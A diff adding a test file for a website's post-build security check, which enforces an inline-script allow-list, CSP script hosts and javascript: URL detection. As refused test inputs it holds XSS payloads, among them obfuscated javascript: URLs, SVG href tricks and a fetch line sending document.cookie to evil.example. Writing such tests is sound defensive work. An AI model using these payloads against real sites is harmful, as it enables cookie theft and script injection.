@@ -1,0 +1,198 @@
+// @vitest-environment node
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { allowList, ALLOW_LIST_FILE } from '@/scripts/build/inline-scripts.mjs';
+import { postbuild, securePage } from '@/scripts/build/postbuild.mjs';
+import { CSP_DIRECTIVES } from '@/scripts/build/security-policy.mjs';
+import { browserScheme } from '@/scripts/build/url-attributes.mjs';
+import { inlineScripts } from '@/lib/site/inline-scripts';
+import { BOOT_SCRIPT } from '@/lib/site/boot-script';
+
+// The post-build step trusts no inline script it finds: only the allow-list, JSON-LD data and
+// scripts from the site itself pass; javascript: URLs are looked for where browsers read URLs.
+
+const page = (body: string, head = '') =>
+  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`;
+const OPTIONS = { allowedScripts: allowList([BOOT_SCRIPT]) };
+const secure = (body: string, head = '') => securePage(page(body, head), 'guides/some-guide.html', OPTIONS);
+
+describe('inline scripts', () => {
+  it('allows the allow-listed scripts and hashes them', () => {
+    expect(secure('<p>Hi</p>', `<script>${BOOT_SCRIPT}</script>`).scripts).toHaveLength(1);
+    // The HTML parser turns CRLF into LF before a browser hashes; the list is compared the same way.
+    const crlf = allowList(['a();\nb();']);
+    expect(() =>
+      securePage(page('<script>a();\r\nb();</script>'), 'x.html', { allowedScripts: crlf }),
+    ).not.toThrow();
+  });
+
+  it.each([
+    ['an injected script', '<script>alert(document.cookie)</script>'],
+    ['an allowed script with one character more', `<script>${BOOT_SCRIPT} </script>`],
+    ['a module script', `<script type="module">${BOOT_SCRIPT}x</script>`],
+    ['an SVG script', '<svg><script>alert(1)</script></svg>'],
+    ['a script inside a template', '<template><script>alert(1)</script></template>'],
+  ])('refuses %s, naming the page', (_what, body) => {
+    expect(() => secure(body)).toThrow(/^guides\/some-guide\.html: inline <script> not on the allow-list/);
+  });
+
+  it('passes JSON-LD data blocks without listing them, but only valid JSON', () => {
+    expect(() => secure('<script type="application/ld+json">{"@type":"Article"}</script>')).not.toThrow();
+    expect(() => secure('<script type="application/ld+json">alert(1)</script>')).toThrow(
+      /some-guide\.html: <script type="application\/ld\+json"> does not hold valid JSON/,
+    );
+  });
+
+  it.each(['text/plain', 'importmap', 'speculationrules', 'text/x-template'])(
+    'refuses a <script type="%s"> the site does not use',
+    (type) => {
+      expect(() => secure(`<script type="${type}">{}</script>`)).toThrow(
+        /is not a script type the site uses/,
+      );
+    },
+  );
+
+  it("passes scripts loaded by src from the site and from script-src's hosts, and no others", () => {
+    const klook = CSP_DIRECTIVES['script-src']!.find((s) => s.startsWith('https://'))!;
+    for (const src of ['/pagefind/pagefind-ui.js', 'search.js', `${klook}/widget/fetch-iframe-init.js`]) {
+      expect(() => secure(`<script src="${src}" async></script>`)).not.toThrow();
+    }
+    for (const src of [
+      'https://evil.example/x.js',
+      '//evil.example/x.js',
+      '/\\evil.example/x.js',
+      `${klook}.evil.example/x.js`,
+      'data:text/javascript,alert(1)',
+    ]) {
+      expect(() => secure(`<script src="${src}"></script>`), src).toThrow(
+        /loads code from a host the policy does not name/,
+      );
+    }
+    expect(() => secure('<svg><script href="//evil.example/x.js"></script></svg>')).toThrow(/does not name/);
+  });
+
+  it('lists the scripts the pages really carry: the boot script, the 404 script, one per redirect page', () => {
+    const lists = inlineScripts();
+    expect(lists.boot).toEqual([BOOT_SCRIPT]);
+    expect(lists['not-found']).toHaveLength(1);
+    expect(lists.redirect!.every((script) => script.includes('location.replace('))).toBe(true);
+  });
+});
+
+describe('javascript: URLs', () => {
+  it('reads the scheme the way a browser does', () => {
+    expect(browserScheme('java\tscript:alert(1)')).toBe('javascript');
+    expect(browserScheme('java\nscr\ript:alert(1)')).toBe('javascript');
+    expect(browserScheme(' \u0001\u001fJaVaScRiPt:alert(1)')).toBe('javascript');
+    expect(browserScheme('/guides/javascript:tips')).toBeUndefined();
+    expect(browserScheme('https://x.example/')).toBe('https');
+  });
+
+  it.each([
+    '<a href="java&#9;script:alert(1)">x</a>',
+    '<a href="java&#x0A;script:alert(1)">x</a>',
+    '<a href=" &#1;JAVASCRIPT:alert(1)">x</a>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<form action="javascript:alert(1)"></form>',
+    '<form><button formaction="javascript:alert(1)">x</button></form>',
+    '<video poster="javascript:alert(1)"></video>',
+    '<object data="javascript:alert(1)"></object>',
+    '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    '<img srcset="/a.png 1x, javascript:alert(1) 2x" alt="">',
+    '<a ping="/ok javascript:alert(1)" href="/">x</a>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+    '<svg><a><animate attributeName="xlink:href" values="/;javascript:alert(1)"/><text>x</text></a></svg>',
+  ])('refuses %s, naming the page', (body) => {
+    expect(() => secure(body)).toThrow(/^guides\/some-guide\.html: <\w+ [\w:]+=".*"> is a javascript: URL/);
+  });
+
+  it('refuses a meta refresh to a javascript: URL', () => {
+    expect(() => secure('', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>')).toThrow(
+      /<meta content=.*javascript: URL/,
+    );
+  });
+
+  it.each([
+    '<a title="JavaScript: the good parts" href="/guides/javascript">x</a>',
+    '<p data-note="javascript:alert(1)">text is not a URL</p>',
+    '<img alt="javascript: a word" src="/a.png">',
+    '<a href="https://example.com/?q=javascript:alert(1)">x</a>',
+    '<a href="/search?q=javascript%3A">x</a>',
+  ])('passes harmless text: %s', (body) => {
+    expect(() => secure(body)).not.toThrow();
+  });
+
+  it('passes a meta description and a meta refresh to a page', () => {
+    expect(() =>
+      secure(
+        '',
+        '<meta name="description" content="javascript: tips"/><meta http-equiv="refresh" content="0;url=/"/>',
+      ),
+    ).not.toThrow();
+  });
+});
+
+describe('postbuild', () => {
+  function site(pages: Record<string, string>, allowed: string[]) {
+    const root = mkdtempSync(join(tmpdir(), 'page-policy-'));
+    const out = join(root, 'out');
+    mkdirSync(join(out, 'guides'), { recursive: true });
+    writeFileSync(join(out, ALLOW_LIST_FILE), JSON.stringify({ test: allowed }));
+    for (const [file, html] of Object.entries(pages)) writeFileSync(join(out, file), html);
+    return { root, out };
+  }
+
+  it('fails on an unknown inline script, naming the page', async () => {
+    const { root, out } = site(
+      {
+        'index.html': page('<script>ok()</script>'),
+        'guides/hacked.html': page('<p>Text</p><script>fetch("//evil.example?"+document.cookie)</script>'),
+      },
+      ['ok()'],
+    );
+    await expect(postbuild(out, root, { reportOnly: false })).rejects.toThrow(
+      /^guides\/hacked\.html: inline <script> not on the allow-list/,
+    );
+  });
+
+  it('fails without the build’s allow-list rather than trusting every script', async () => {
+    const { root, out } = site({ 'index.html': page('<script>ok()</script>') }, []);
+    writeFileSync(join(out, ALLOW_LIST_FILE), '[]');
+    await expect(postbuild(out, root, { reportOnly: false })).rejects.toThrow(
+      /inline-scripts\.json is not a map/,
+    );
+  });
+
+  it('removes the duplicate 404 page Next writes as _not-found.html', async () => {
+    const { root, out } = site(
+      { '404.html': page('<p>Not found</p>'), '_not-found.html': page('<p>Not found</p>') },
+      [],
+    );
+    const pages = await postbuild(out, root, { reportOnly: false });
+    expect(existsSync(join(out, '_not-found.html'))).toBe(false);
+    expect(pages.map((p) => p.file)).toEqual(['404.html']);
+  });
+
+  it('CSP_REPORT_ONLY: header files report only, and pages carry no meta policy (a meta tag cannot report only)', async () => {
+    const { root, out } = site(
+      { 'index.html': page('<script>ok()</script>'), '404.html': page('<p>404</p>') },
+      ['ok()'],
+    );
+    const pages = await postbuild(out, root, { reportOnly: true });
+    expect(readFileSync(join(out, 'index.html'), 'utf8')).not.toContain(
+      'http-equiv="Content-Security-Policy"',
+    );
+    const headers = readFileSync(join(out, '_headers'), 'utf8');
+    expect(headers).toMatch(
+      /^ {2}Content-Security-Policy-Report-Only: default-src 'self'; script-src [^\n]*'sha256-/m,
+    );
+    expect(headers).not.toMatch(/^ {2}Content-Security-Policy:/m);
+    const serve = JSON.parse(readFileSync(join(root, 'serve.json'), 'utf8'));
+    const index = serve.headers.find((rule: { source: string }) => rule.source === '/index.html');
+    expect(index.headers.map((h: { key: string }) => h.key)).toContain('Content-Security-Policy-Report-Only');
+    expect(pages.find((p) => p.file === 'index.html')?.csp).toContain("frame-ancestors 'none'");
+  });
+});
